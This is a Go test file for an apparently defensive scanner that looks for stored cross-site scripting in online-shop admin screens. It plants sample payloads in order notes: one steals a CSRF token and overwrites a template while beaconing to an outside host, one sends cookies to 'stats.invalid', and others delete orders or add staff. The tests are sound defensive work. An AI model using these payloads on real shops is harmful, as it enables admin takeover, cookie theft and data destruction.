package page

import (
	"context"
	"database/sql"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	_ "modernc.org/sqlite" // the demonstration shop's database

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/demoshop"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

// lookAdmin looks into an admin screen only.
func lookAdmin(t *testing.T, admin Admin) (signs []tillwatch.Sign, gaps []tillwatch.Gap) {
	t.Helper()
	sensor, err := New(Config{Admin: admin, Timeout: 3 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	defer cancel()
	err = sensor.lookIntoAdmin(ctx, browser.Profiles()[0], func(o tillwatch.Observation) error {
		switch o := o.(type) {
		case tillwatch.Sign:
			signs = append(signs, o)
			t.Logf("%s %s %s at %s: %s %+v", o.Rule, o.Severity, o.Certainty, o.Place, o.Summary, o.Evidence)
		case tillwatch.Gap:
			gaps = append(gaps, o)
			t.Logf("gap: %s: %s", o.Place, o.Why)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return signs, gaps
}

const orderOf = `INSERT INTO orders SELECT coalesce(max(id), 0) + 1, 'K' || printf('%07d', coalesce(max(id), 0) + 1), 'placed', NULL, unixepoch() - 3600,
	't.yamamoto@example.com', '山本', '太郎', 'ヤマモト', 'タロウ', ?2, '6048005', '京都府', '京都市中京区', '三条通1', '', '0750000000', '山本 太郎',
	'6048005', '京都府京都市中京区三条通1', '0750000000', 'standard', '', '', ?1, 'cod', '', '', '', 1800, 0, 0, 0, 1800 FROM orders`

func writeOrder(t *testing.T, shop *demoshop.Shop, note, company string) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+shop.Database()+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(t.Context(), orderOf, note, company); err != nil {
		t.Fatal(err)
	}
}

// A script in an order is found where it runs, what it does is told, and nothing of it comes true.
func TestStoredScriptInTheAdminScreen(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{Customers: 20, Orders: 6, Holes: demoshop.Holes{RawOrderMail: true, TemplateEditor: true}})
	origin := strings.TrimSuffix(shop.URL("tea-news.localhost"), "/")
	writeOrder(t, shop, `よろしく。"><script>fetch('/admin/files?file=templates/guide.html').then(r=>r.text()).then(t=>{var f=new FormData;f.append('file','templates/guide.html');f.append('text','gone');f.append('_token',/_token" value="(\w+)/.exec(t)[1]);fetch('/admin/files',{method:'POST',body:f});new Image().src='`+origin+`/i?'+t.length})</script>`, "")
	writeOrder(t, shop, "いつもありがとうございます <3 & 「のし」 script と onload='x' の話", "A&B <Tea>")
	signs, gaps := lookAdmin(t, Admin{URL: shop.URL("shop.localhost") + "admin", User: "admin", Password: shop.AdminPassword()})
	if len(gaps) != 0 || len(signs) != 1 {
		t.Fatalf("%d signs and %d gaps, want one sign", len(signs), len(gaps))
	}
	s := signs[0]
	if s.Rule != "page/order-admin-script" || s.Severity != tillwatch.Critical || s.Certainty != tillwatch.Certain {
		t.Errorf("%s %s %s", s.Rule, s.Severity, s.Certainty)
	}
	if !strings.Contains(s.Place, "/admin/orders/") || !strings.HasSuffix(s.Evidence[0].Where, "/mail") {
		t.Errorf("at %s by %+v", s.Place, s.Evidence[0])
	}
	if !slices.ContainsFunc(s.Evidence, func(e tillwatch.Evidence) bool {
		return e.What == toChange && strings.HasSuffix(e.Destination, "/admin/files")
	}) {
		t.Error("that it tried to change a file is not told")
	}
	if got := shop.Received("tea-news.localhost"); len(got) != 0 {
		t.Errorf("the script reached its host: %s", got[0].Path)
	}
	visitor := shop.Client()
	answer, err := visitor.Get(shop.URL("shop.localhost") + "guide")
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		t.Error("the script changed the shop")
	}
}

func TestHandlersOfOrdersInTheAdminScreen(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{Customers: 20, Orders: 3, Holes: demoshop.Holes{RawOrderMail: true}})
	writeOrder(t, shop, "領収書をお願いします。", `山本茶業<img src=x onerror="document.title=document.querySelectorAll('a').length">`)
	signs, gaps := lookAdmin(t, Admin{URL: shop.URL("shop.localhost") + "admin/orders", User: "admin", Password: shop.AdminPassword()})
	if len(gaps) != 0 || len(signs) != 1 || signs[0].Certainty != tillwatch.Certain {
		t.Errorf("%d signs and %d gaps", len(signs), len(gaps))
	}
}

func TestHonestAdminScreen(t *testing.T) {
	t.Parallel()
	shop := openShop(t, demoshop.Config{Customers: 20, Orders: 4})
	writeOrder(t, shop, `"><script>alert(document.cookie)</script>`, "x") // shown as text everywhere
	signs, gaps := lookAdmin(t, Admin{URL: shop.URL("shop.localhost") + "admin", User: "admin", Password: shop.AdminPassword()})
	if len(signs)+len(gaps) != 0 {
		t.Errorf("%d signs and %d gaps of an admin screen that escapes", len(signs), len(gaps))
	}
}

func TestWrongAdminPasswordIsTriedOnce(t *testing.T) {
	t.Parallel()
	panel := newPanel(t)
	signs, gaps := lookAdmin(t, Admin{URL: panel.URL + "/manage/", User: "staff", Password: "wrong"})
	if len(signs) != 0 || len(gaps) != 1 || !strings.Contains(gaps[0].Why, "refused") || strings.Contains(gaps[0].Why, "wrong\"") {
		t.Errorf("%v", gaps)
	}
	if panel.tries != 1 {
		t.Errorf("the password was tried %d times", panel.tries)
	}
}

// panel is an admin screen of another make: a menu, a list that shows nothing until it is asked with a form, orders by a
// number in the query, scripts of its own with the order's data in them, and a button that must not be pressed.
type panel struct {
	*httptest.Server
	mu      sync.Mutex
	tries   int
	changed []string
	orders  map[int]string // notes, shown raw
	escaped bool
}

func newPanel(t *testing.T) *panel {
	t.Helper()
	p := &panel{orders: map[int]string{}}
	for n := 101; n <= 108; n++ {
		p.orders[n] = "よろしくお願いします。"
	}
	p.Server = httptest.NewServer(p)
	t.Cleanup(p.Close)
	return p
}

func (p *panel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p.mu.Lock()
	defer p.mu.Unlock()
	_ = r.ParseForm()
	cookie, _ := r.Cookie("PHPSESSID")
	in := cookie != nil && cookie.Value == "in"
	page := func(body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><head><title>管理</title><script>var base = '/manage/';</script></head><body><ul class="menu">
			<li><a href="/manage/goods.php">商品管理</a></li><li><a href="/manage/juchu.php">受注管理</a></li><li><a href="/manage/logout.php">ログアウト</a></li></ul>%s</body></html>`, body)
	}
	switch {
	case r.URL.Path == "/manage/" && r.Method == http.MethodPost:
		p.tries++
		if r.Form.Get("loginid") == "staff" && r.Form.Get("pass") == "s3cret-pass" {
			http.SetCookie(w, &http.Cookie{Name: "PHPSESSID", Value: "in", Path: "/"})
			http.Redirect(w, r, "/manage/home.php", http.StatusFound)
			return
		}
		fallthrough
	case !in:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<form method="post" action="/manage/"><input name="loginid"><input type="password" name="pass"><input type="image" alt="ログイン" src="/l.png" width="80" height="30"></form>`)
	case r.Method == http.MethodPost && r.URL.Path == "/manage/juchu.php":
		var rows strings.Builder
		for n := 101; n <= 108; n++ {
			fmt.Fprintf(&rows, `<tr><td>%d</td><td><a href="/manage/juchu_detail.php?juchu_id=%d">詳細</a></td><td><a href="/manage/juchu_delete.php?juchu_id=%d">削除</a></td></tr>`, n, n, n)
		}
		page(`<table>` + rows.String() + `</table>`)
	case r.Method == http.MethodPost, strings.Contains(r.URL.Path, "delete"), strings.Contains(r.URL.Path, "logout"):
		p.changed = append(p.changed, r.Method+" "+r.URL.Path)
	case r.URL.Path == "/manage/juchu.php":
		page(`<form method="post"><input name="q"><input type="submit" value="この条件で検索する"></form>`)
	case r.URL.Path == "/manage/juchu_detail.php":
		var n int
		_, _ = fmt.Sscan(r.Form.Get("juchu_id"), &n)
		note := p.orders[n]
		if p.escaped {
			note = html.EscapeString(note)
		}
		special := ""
		if n%3 == 0 {
			special = `<script>document.title = 'gift';</script>`
		}
		page(fmt.Sprintf(`<script>var order = {id: %d, note: "%d letters"}; document.title = order.id;</script>%s
			<table><tr><th>備考</th><td class="memo">%s</td></tr></table><form method="post"><button>更新</button></form>`, n, len(note), special, note))
	default:
		page("<p>ようこそ</p>")
	}
}

func TestAdminScreenOfAnotherMake(t *testing.T) {
	t.Parallel()
	for name, note := range map[string]string{
		"honest":   "3 < 5 & \"x\" <3",
		"inline":   `ok<script>navigator.sendBeacon('/manage/juchu.php', 'a=1'); new Image().src = 'http://stats.invalid/p?' + document.cookie;</script>`,
		"handler":  `ok<svg onload="fetch('/manage/juchu_delete.php?juchu_id=101'); fetch('/manage/staff.php', {method: 'POST', body: 'add=1'})">`,
		"external": `ok<script src="http://cdn-jq.localhost/jquery.js"></script>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := newPanel(t)
			p.orders[106] = note
			signs, gaps := lookAdmin(t, Admin{URL: p.URL + "/manage/", User: "staff", Password: "s3cret-pass"})
			if len(gaps) != 0 {
				t.Errorf("%d gaps", len(gaps))
			}
			if want := map[bool]int{true: 0, false: 1}[name == "honest"]; len(signs) != want {
				t.Fatalf("%d signs, want %d", len(signs), want)
			}
			if len(signs) > 0 && signs[0].Severity != tillwatch.Critical {
				t.Errorf("%s, %s", signs[0].Severity, signs[0].Certainty)
			}
			p.mu.Lock()
			defer p.mu.Unlock()
			if len(p.changed) > 0 {
				t.Errorf("the look changed something: %v", p.changed)
			}
		})
	}
}
